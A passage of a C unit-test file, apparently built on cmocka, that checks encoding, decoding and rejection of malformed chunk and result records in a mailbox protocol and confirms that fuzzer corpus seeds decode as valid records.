    lz_mbx_chunk k = {
        .request_id = RID, .stream = LZ_MBX_STDOUT, .data = data, .len = LZ_MBX_MAX_CHUNK + 1
    };
    lz_mbx_chunk_encode(&b, &k);
    expect_refused(b.data, b.len);
    /* streams other than 1 and 2 */
    const uint32_t streams[] = { 0, 3, 0x100u | LZ_MBX_STDOUT, UINT32_MAX };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(streams); i++) {
        k = (lz_mbx_chunk){ .request_id = RID, .stream = streams[i], .data = data, .len = 1 };
        lz_mbx_chunk_encode(&b, &k);
        expect_refused(b.data, b.len);
    }
    free(data);
}

/* ---- RESULT ------------------------------------------------------------- */

static void test_result_round_trip(void **state)
{
    (void) state;
    char *msg = lz_xmalloc(LZ_MBX_MAX_MESSAGE + 1);
    for (size_t i = 0; i < LZ_MBX_MAX_MESSAGE; i += 4)
        memcpy(msg + i, "\xe2\x9c\x93m", 4);
    msg[LZ_MBX_MAX_MESSAGE] = '\0';
    const uint32_t statuses[] = { 0, 1, 127, 128 + 9, 255, 255 + 128 };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(statuses); i++) {
        lz_mbx_result r = { .request_id = RID,
                            .outcome = LZ_MBX_COMPLETED,
                            .status = statuses[i],
                            .n_chunks = (uint32_t) i,
                            .message = msg };
        lz_mbx_result_encode(&b, &r);
        lz_mbx_result d;
        assert_true(lz_mbx_result_decode(b.data, b.len, &d));
        assert_string_equal(d.request_id, RID);
        assert_int_equal(d.outcome, LZ_MBX_COMPLETED);
        assert_int_equal(d.status, statuses[i]);
        assert_int_equal(d.n_chunks, i);
        assert_string_equal(d.message, msg);
        lz_mbx_result_encode(&b2, &d);
        assert_int_equal(b2.len, b.len);
        assert_memory_equal(b2.data, b.data, b.len);
        lz_mbx_result_clear(&d);
        assert_true(zeroed(&d, sizeof(d)));
    }
    expect_only(&b, LZ_MBX_RESULT);
    /* every other outcome, without a status; message NULL is "" */
    for (uint32_t o = LZ_MBX_DENIED; o <= LZ_MBX_FAILED; o++) {
        lz_mbx_result r = { .request_id = RID, .outcome = o, .n_chunks = UINT32_MAX };
        lz_mbx_result_encode(&b, &r);
        lz_mbx_result d;
        assert_true(lz_mbx_result_decode(b.data, b.len, &d));
        assert_int_equal(d.outcome, o);
        assert_string_equal(d.message, "");
        lz_mbx_result_clear(&d);
        /* a status with an outcome that ran nothing is refused */
        r.status = 1;
        lz_mbx_result_encode(&b, &r);
        expect_refused(b.data, b.len);
    }
    /* status 384 for COMPLETED; outcomes 0 and 6; a message of 1025 bytes */
    lz_mbx_result r = { .request_id = RID, .outcome = LZ_MBX_COMPLETED, .status = 256 + 128 };
    lz_mbx_result_encode(&b, &r);
    expect_refused(b.data, b.len);
    r.status = UINT32_MAX;
    lz_mbx_result_encode(&b, &r);
    expect_refused(b.data, b.len);
    const uint32_t outcomes[] = { 0, LZ_MBX_FAILED + 1, UINT32_MAX };
    for (size_t i = 0; i < LZ_ARRAY_SIZE(outcomes); i++) {
        r = (lz_mbx_result){ .request_id = RID, .outcome = outcomes[i] };
        lz_mbx_result_encode(&b, &r);
        expect_refused(b.data, b.len);
    }
    char *long_msg = rep('m', LZ_MBX_MAX_MESSAGE + 1);
    r = (lz_mbx_result){ .request_id = RID, .outcome = LZ_MBX_FAILED, .message = long_msg };
    lz_mbx_result_encode(&b, &r);
    expect_refused(b.data, b.len);
    free(long_msg);
    free(msg);
}

/* ---- the fuzzer's seeds --------------------------------------------------- */

/* LZ_TEST_DATA_DIR is .../tests/unit/data; the corpus is a sibling of
 * tests/unit (the data directory itself need not exist). */
static char *corpus_dir(void)
{
    const char *d = LZ_TEST_DATA_DIR;
    size_t n = strlen(d);
    assert_true(n > 5 && strcmp(d + n - 5, "/data") == 0);
    return lz_xasprintf("%.*s/../fuzz/corpus/fuzz_mailbox", (int) (n - 5), d);
}

static void test_fuzz_seeds_are_valid(void **state)
{
    (void) state;
    char *dir = corpus_dir();
    int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    assert_true(dfd >= 0);
    DIR *d = fdopendir(dfd);
    assert_non_null(d);
    size_t seen[LZ_MBX_RESULT + 1] = { 0 };
    struct dirent *e;
    uint8_t *buf = lz_xmalloc(LZ_MBX_MAX_RECORD + 1);
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        int fd = openat(dirfd(d), e->d_name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);
        assert_true(fd >= 0);
        ssize_t n = read(fd, buf, LZ_MBX_MAX_RECORD + 1);
        close(fd);
        assert_true(n > 0 && n <= LZ_MBX_MAX_RECORD);
        uint16_t type = lz_mbx_record_type(buf, (size_t) n);
        bool ok = false;
        lz_mbx_request q;
        lz_mbx_control c;
        lz_mbx_chunk k;
        lz_mbx_result r;
        switch (type) {
        case LZ_MBX_REQUEST:
            ok = lz_mbx_request_decode(buf, (size_t) n, &q);
            lz_mbx_request_clear(&q);
            break;
        case LZ_MBX_CANCEL:
        case LZ_MBX_ACK:
            ok = lz_mbx_control_decode(buf, (size_t) n, type, &c);
            break;
        case LZ_MBX_CHUNK:
            ok = lz_mbx_chunk_decode(buf, (size_t) n, &k);
            break;
        case LZ_MBX_RESULT:
            ok = lz_mbx_result_decode(buf, (size_t) n, &r);
            lz_mbx_result_clear(&r);
            break;
        default:
            break;
        }
        if (!ok)
            fail_msg("seed %s is not a valid mailbox record", e->d_name);
        seen[type]++;
    }
    closedir(d);
    free(buf);
    free(dir);
    for (size_t i = 0; i < LZ_ARRAY_SIZE(all_types); i++)
        if (!seen[all_types[i]])
            fail_msg("no seed of record type %u", all_types[i]);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_id_ok),
        cmocka_unit_test(test_bad_ids_refused),
        cmocka_unit_test(test_record_type),
        cmocka_unit_test(test_wrong_magic_version_type),
        cmocka_unit_test(test_byte_more_or_less),
        cmocka_unit_test(test_oversized_record),
        cmocka_unit_test(test_request_round_trip),
        cmocka_unit_test(test_request_at_bounds),
        cmocka_unit_test(test_request_argc_field),
        cmocka_unit_test(test_request_relative_program),
        cmocka_unit_test(test_request_cwd),
        cmocka_unit_test(test_request_utf8),
        cmocka_unit_test(test_request_nul_inside),
        cmocka_unit_test(test_request_shell_metacharacters_are_data),
        cmocka_unit_test(test_control_round_trip),
        cmocka_unit_test(test_chunk_round_trip),
        cmocka_unit_test(test_result_round_trip),
        cmocka_unit_test(test_fuzz_seeds_are_valid),
    };
    return cmocka_run_group_tests_name("test_mailbox", tests, NULL, NULL);
}
